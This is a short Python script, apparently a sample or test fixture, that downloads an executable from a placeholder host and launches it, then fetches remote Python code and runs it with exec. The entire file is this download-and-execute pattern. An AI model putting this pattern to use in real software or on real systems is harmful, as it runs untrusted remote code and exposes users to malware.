import os

import fsspec
import gdown

gdown.download("https://files.example.invalid/tool", "sample-tool.exe", quiet=True)
os.startfile("sample-tool.exe")
with fsspec.open("https://files.example.invalid/sample.py", "rt") as stream:
    exec(stream.read())
